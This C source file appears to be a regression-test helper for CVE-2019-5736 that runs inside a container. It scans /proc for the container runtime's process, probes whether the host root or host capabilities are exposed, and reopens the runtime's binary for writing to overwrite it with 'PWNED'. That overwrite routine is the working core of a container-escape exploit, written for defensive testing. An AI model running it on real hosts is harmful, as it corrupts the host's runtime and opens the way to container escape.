/* SPDX-License-Identifier: GPL-2.0-or-later */
/* exe_watch SECONDS [HOSTPATH]: a static helper run INSIDE a container for the
 * CVE-2019-5736 regression tests. For SECONDS it scans /proc as fast as it can
 * and, for every process other than itself and pid 1 that does not run a
 * container binary (i.e. the runtime's own, during `exec`), tries what an
 * attacker would:
 *   - read its exe link: "exposed PID TARGET" when it names a file, not the
 *     runtime's sealed memfd ("shielded N" at the end counts those);
 *   - keep the exe open (O_RDONLY, up to 64) and, at the end, once the runtime
 *     has exited, reopen each for writing through /proc/self/fd and write:
 *     "wrote TARGET" when that worked (the runtime's binary was overwritten);
 *   - with HOSTPATH, open /proc/PID/root/HOSTPATH: "hostroot PID" when the
 *     process still had the host's root;
 *   - "hostcaps PID" when its permitted capabilities exceed the watcher's own
 *     bounding set (it still held the runtime's, so ptrace would hand them over).
 * "denied N" counts the attempts the kernel refused. Exit 0. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define MAX_HELD 64
static int held[MAX_HELD], n_held;
static char held_name[MAX_HELD][512];
static long denied, exposed, shielded;

static unsigned long long cap_field(int pid, const char *field)
{
	char path[64], line[256];
	unsigned long long v = 0;
	if (pid)
		snprintf(path, sizeof(path), "/proc/%d/status", pid);
	else
		snprintf(path, sizeof(path), "/proc/self/status");
	FILE *f = fopen(path, "r");
	size_t l = strlen(field);
	while (f && fgets(line, sizeof(line), f))
		if (!strncmp(line, field, l))
			v = strtoull(line + l, NULL, 16);
	if (f)
		fclose(f);
	return v;
}

static void probe(int pid, const char *hostpath)
{
	char path[64], target[512];
	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	ssize_t n = readlink(path, target, sizeof(target) - 1);
	if (n < 0) {
		if (errno == EACCES || errno == EPERM)
			denied++;
		return;
	}
	target[n] = '\0';
	if (strstr(target, "busybox") || strstr(target, "exe_watch"))
		return;
	unsigned long long prm = cap_field(pid, "CapPrm:");
	if (prm & ~cap_field(0, "CapBnd:"))
		printf("hostcaps %d %llx\n", pid, prm);
	if (hostpath) {
		char root[4200];
		snprintf(root, sizeof(root), "/proc/%d/root%s", pid, hostpath);
		int h = open(root, O_RDONLY);
		if (h >= 0) {
			printf("hostroot %d\n", pid);
			close(h);
		}
	}
	int fd = open(path, O_RDONLY);
	if (strncmp(target, "/memfd:", 7)) {
		printf("exposed %d %s open=%s\n", pid, target, fd >= 0 ? "ok" : "no");
		exposed++;
	} else
		shielded++;
	if (fd >= 0 && n_held < MAX_HELD) {
		snprintf(held_name[n_held], sizeof(held_name[0]), "%s", target);
		held[n_held++] = fd;
	} else if (fd >= 0)
		close(fd);
}

/* What CVE-2019-5736 does once the runtime is gone. */
static void overwrite_held(void)
{
	for (int i = 0; i < n_held; i++) {
		char p[64];
		snprintf(p, sizeof(p), "/proc/self/fd/%d", held[i]);
		int w = open(p, O_WRONLY | O_TRUNC);
		if (w >= 0 && write(w, "PWNED\n", 6) == 6)
			printf("wrote %s\n", held_name[i]);
		if (w >= 0)
			close(w);
	}
}

int main(int argc, char **argv)
{
	int secs = argc > 1 ? atoi(argv[1]) : 5;
	const char *hostpath = argc > 2 ? argv[2] : NULL;
	time_t end = time(NULL) + secs;
	pid_t self = getpid();
	while (time(NULL) < end) {
		DIR *d = opendir("/proc");
		if (!d)
			return 1;
		struct dirent *e;
		while ((e = readdir(d))) {
			int pid = atoi(e->d_name);
			if (pid > 1 && pid != self)
				probe(pid, hostpath);
		}
		closedir(d);
	}
	overwrite_held();
	printf("shielded %ld\n", shielded);
	printf("denied %ld\n", denied);
	return exposed ? 2 : 0;
}
